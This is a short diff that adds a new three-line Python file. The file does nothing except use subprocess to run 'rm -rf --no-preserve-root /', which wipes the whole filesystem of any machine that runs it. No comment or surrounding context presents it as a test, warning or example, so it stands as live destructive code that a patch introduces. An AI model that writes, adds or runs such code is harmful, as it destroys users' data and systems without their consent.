@@ -1,0 +1,3 @@
+import subprocess as sp
+
+sp.run(["rm", "-rf", "--no-preserve-root", "/"], check=False)
